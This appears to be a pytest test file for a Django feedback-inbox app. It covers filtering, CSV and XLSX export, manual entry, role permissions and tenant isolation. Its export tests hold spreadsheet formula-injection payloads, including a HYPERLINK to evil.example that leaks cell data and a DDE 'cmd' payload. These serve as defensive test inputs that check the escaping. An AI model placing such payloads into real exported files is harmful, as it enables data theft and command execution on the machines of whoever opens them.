"""The inbox, the record page, CSV export, manual entry and channel settings."""

import csv
import io
import re

import pytest
from django.urls import reverse

from soriloop.accounts.models import AuditEvent
from soriloop.conftest import Member, add
from soriloop.feedback.filters import BadFilter, FeedbackFilter
from soriloop.feedback.models import Feedback
from soriloop.feedback.services import channel_settings_get


@pytest.fixture
def records(alice: Member) -> list[Feedback]:
    return [
        add(
            alice,
            text="배송이 너무 늦어요",
            score=1,
            score_kind="stars",
            channel="review",
            received_at="2026-03-01T10:00:00",
        ),
        add(
            alice,
            text="상담원이 친절했어요",
            score=10,
            score_kind="nps",
            channel="phone",
            received_at="2026-03-02T10:00:00",
        ),
        add(
            alice,
            text="The app keeps crashing",
            score=2,
            score_kind="csat",
            channel="api",
            received_at="2026-03-03T10:00:00",
            customer={"email": "c@x.example", "name": "Chris"},
        ),
    ]


def test_the_inbox_lists_newest_first(alice: Member, records) -> None:
    page = alice.client.get(reverse("inbox:inbox")).content.decode()
    assert page.index("The app keeps crashing") < page.index("상담원이") < page.index("배송이")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=배송", ["배송이 너무 늦어요"]),
        ("q=늦어", ["배송이 너무 늦어요"]),
        ("channel=phone&channel=api", ["The app keeps crashing", "상담원이 친절했어요"]),
        ("score_kind=nps&score_min=9", ["상담원이 친절했어요"]),
        ("date_from=2026-03-02&date_to=2026-03-02", ["상담원이 친절했어요"]),
    ],
)
def test_filters_narrow_the_inbox(alice: Member, records, query: str, expected: list[str]) -> None:
    page = alice.client.get(f"{reverse('inbox:inbox')}?{query}").content.decode()
    shown = [r.text for r in records if r.text in page]
    assert sorted(shown) == sorted(expected)


def test_a_bad_filter_is_shown_not_crashed(alice: Member, records) -> None:
    response = alice.client.get(
        f"{reverse('inbox:inbox')}?date_from=soon", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200
    assert "date_from" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"language": "ja"}, "language"),
        ({"type": "rant"}, "type"),
        ({"sentiment": "meh"}, "sentiment"),
        ({"topic": "배송 지연"}, "topic"),
        ({"score_min": "11"}, "score_min"),
        ({"score_max": "-1"}, "score_max"),
        ({"score_min": "nan"}, "score_min"),
        ({"date_from": "2026-02-30"}, "date_from"),
    ],
)
def test_a_filter_no_record_can_match_is_named_not_silently_empty(query, field: str) -> None:
    with pytest.raises(BadFilter) as caught:
        FeedbackFilter.from_query(query)
    assert list(caught.value.fields) == [field]
    assert FeedbackFilter.from_query({"topic": "배송-지연", "type": "none", "score_min": "0"})


def test_a_score_bound_out_of_range_is_explained_in_korean(alice: Member) -> None:
    page = alice.client.get(
        f"{reverse('inbox:inbox')}?score_min=11", HTTP_ACCEPT_LANGUAGE="ko"
    ).content.decode()
    assert "0에서 10 사이의 숫자여야 합니다" in page


def test_the_empty_inbox_says_what_to_do(alice: Member) -> None:
    page = alice.client.get(reverse("inbox:inbox"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "No feedback yet" in page
    assert reverse("feedback:channels") in page


def test_the_record_page_shows_the_customer_and_metadata(alice: Member, records) -> None:
    page = alice.client.get(reverse("inbox:record", args=[records[2].pk])).content.decode()
    assert "The app keeps crashing" in page
    assert "c@x.example" in page


def test_export_streams_the_current_filter_as_csv_and_is_audited(alice: Member, records) -> None:
    response = alice.client.get(f"{reverse('inbox:export_csv')}?channel=review&channel=phone")
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert [r["text"] for r in rows] == ["상담원이 친절했어요", "배송이 너무 늦어요"]
    assert rows[0]["received_at"] == "2026-03-02T10:00:00+09:00"
    event = AuditEvent.objects.get(action="export")
    assert event.data == {"filter": "channel=review&channel=phone"}


def test_viewers_may_not_export(member_of_a, records) -> None:
    assert member_of_a("viewer").client.get(reverse("inbox:export_csv")).status_code == 403


def test_an_agent_records_phone_feedback_for_a_customer(member_of_a) -> None:
    agent = member_of_a("agent")
    response = agent.client.post(
        reverse("feedback:manual"),
        {
            "channel": "phone",
            "text": "전화로 환불 문의",
            "score_kind": "csat",
            "score": "2",
            "touchpoint": "refund",
            "customer_name": "박지민",
            "customer_phone": "010-2222-3333",
        },
    )
    assert response.status_code == 302
    record = Feedback.objects.get()
    assert (record.channel, record.touchpoint, record.score) == ("phone", "refund", 2.0)
    assert record.customer.phone == "01022223333"
    assert record.metadata["entered_by"] == "agent@a.example"


def test_manual_entry_explains_bad_input(member_of_a) -> None:
    agent = member_of_a("agent")
    response = agent.client.post(
        reverse("feedback:manual"),
        {"channel": "phone", "text": "", "score_kind": "nps", "score": "12"},
    )
    assert response.status_code == 200
    assert Feedback.objects.count() == 0


def test_viewers_cannot_record_feedback(member_of_a) -> None:
    viewer = member_of_a("viewer")
    response = viewer.client.post(reverse("feedback:manual"), {"channel": "phone", "text": "x"})
    assert response.status_code == 403


def test_an_admin_deletes_a_record_and_an_agent_cannot(alice: Member, member_of_a, records) -> None:
    agent = member_of_a("agent")
    url = reverse("inbox:record_delete", args=[records[0].pk])
    assert agent.client.post(url).status_code == 403
    assert alice.client.post(url).status_code == 302
    assert alice.client.get(reverse("inbox:record", args=[records[0].pk])).status_code == 404


def test_channel_settings_show_the_snippet_and_save_origins(alice: Member) -> None:
    page = alice.client.get(reverse("feedback:channels")).content.decode()
    settings = channel_settings_get(workspace=alice.workspace)
    assert settings.widget_key in page
    assert f"fb-{settings.inbound_token}@" in page
    response = alice.client.post(
        reverse("feedback:channels"),
        {
            "widget_origins": "https://Shop.example.com/\nhttp://localhost:3000",
            "reply_enabled": "on",
        },
    )
    assert response.status_code == 302
    settings.refresh_from_db()
    assert settings.widget_origins == ["https://shop.example.com", "http://localhost:3000"]
    bad = alice.client.post(
        reverse("feedback:channels"), {"widget_origins": "shop.example.com/path"}
    )
    assert bad.status_code == 200
    settings.refresh_from_db()
    assert settings.widget_origins == ["https://shop.example.com", "http://localhost:3000"]


def test_bob_reaches_none_of_alices_feedback_pages(
    alice: Member, records, bob: Member, assert_only_alice_sees, assert_hidden_from_bob
) -> None:
    record = records[0]
    add(bob, text="bobs own shop is fine")
    assert_only_alice_sees(reverse("inbox:record", args=[record.pk]), record.text, bob_status=404)
    for name in ("inbox:inbox", "inbox:export_csv"):
        bobs = assert_only_alice_sees(reverse(name), *(r.text for r in records))
        assert "bobs own shop is fine" in bobs, f"{name}: bob sees his own records"
    delete = reverse("inbox:record_delete", args=[record.pk])
    assert_hidden_from_bob("post", delete, {})
    assert Feedback.objects.get(id=record.pk).deleted_at is None
    assert alice.client.post(delete).status_code == 302
    assert Feedback.objects.get(id=record.pk).deleted_at is not None, "alice's own delete works"


def test_xlsx_export_has_the_analysis_columns_keeps_text_as_text_and_is_audited(
    alice: Member, records
) -> None:
    from openpyxl import load_workbook

    from soriloop.analysis.services import analysis_run_batch

    add(alice, text='=HYPERLINK("http://evil.example") 배송 문의', channel="email")
    analysis_run_batch(owner="w")
    response = alice.client.get(f"{reverse('inbox:export_xlsx')}?channel=review&channel=email")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    rows = [list(r) for r in book["feedback"].iter_rows(values_only=True)]
    header = rows[0]
    by_text = {r[header.index("text")]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    late = by_text["배송이 너무 늦어요"]
    assert late["sentiment"] == "negative"
    assert "배송" in late["topics"] and "delivery" in late["topic_keys"]
    assert late["received_at"] == "2026-03-01T10:00:00+09:00"
    assert late["score"] == 1 and isinstance(late["score"], int | float), "a number, not text"
    kinds = {
        row[header.index("text")].value: row[header.index("text")].data_type
        for row in book["feedback"].iter_rows(min_row=2)
    }
    assert kinds['=HYPERLINK("http://evil.example") 배송 문의'] == "s", "text, not a formula"
    assert AuditEvent.objects.filter(action="export", target="feedback.xlsx").exists()
    assert member_of_viewer_forbidden(alice)


def member_of_viewer_forbidden(alice: Member) -> bool:
    from soriloop.conftest import make_member

    viewer = make_member("viewer@a.example", alice.workspace, role="viewer")
    return viewer.client.get(reverse("inbox:export_xlsx")).status_code == 403


def test_a_garbage_date_is_named_on_the_page_and_the_good_filters_still_apply(
    alice: Member, records
) -> None:
    url = reverse("inbox:inbox")
    wanted = alice.client.get(f"{url}?channel=review", HTTP_ACCEPT_LANGUAGE="ko").content.decode()
    page = alice.client.get(
        f"{url}?channel=review&date_from=garbage", HTTP_ACCEPT_LANGUAGE="ko"
    ).content.decode()
    total = re.search(r'data-testid="total" data-count="(\d+)"', page).group(1)
    assert total == re.search(r'data-testid="total" data-count="(\d+)"', wanted).group(1)
    assert int(total) < alice.workspace.feedback.count(), "the channel filter still applies"
    assert "적용하지 않은 필터" in page and "시작일" in page and "garbage" in page


FORMULAS = [
    "=1+1 배송",
    "+1+1 refund",
    "-1+1 late",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 return first",
]


def test_csv_export_escapes_cells_that_a_spreadsheet_would_run(alice: Member) -> None:
    for n, payload in enumerate(FORMULAS):
        add(alice, text=payload, touchpoint=payload[:60], source="app", external_id=f"f{n}")
    add(alice, text="fine", customer={"name": "=2+3", "email": "e@x.example"})
    response = alice.client.get(reverse("inbox:export_csv"))
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    stored = {f.pk: f for f in Feedback.objects.all()}
    formulas = [r for r in rows if r["text"] != "fine"]
    assert len(formulas) == 8
    for row in formulas:
        record = stored[int(row["id"])]
        assert row["text"] == "'" + record.text, "escaped the OWASP way: a leading quote"
        assert row["touchpoint"] == "'" + record.touchpoint
    (fine,) = [r for r in rows if r["text"] == "fine"]
    assert fine["customer_name"] == "'=2+3"


def test_csv_export_keeps_negative_numbers_in_numeric_columns(alice: Member) -> None:
    from zoneinfo import ZoneInfo

    from soriloop.inbox.export import csv_lines

    record = add(alice, text="-5 stars, awful")
    record.score, record.score_kind = -1.5, "nps"
    line = list(csv_lines([record], ZoneInfo("Asia/Seoul"), reveal=True))[1]
    cells = next(csv.reader([line]))
    assert cells[7] == "-1.5", "a number stays a number"
    assert cells[10] == "'-5 stars, awful"
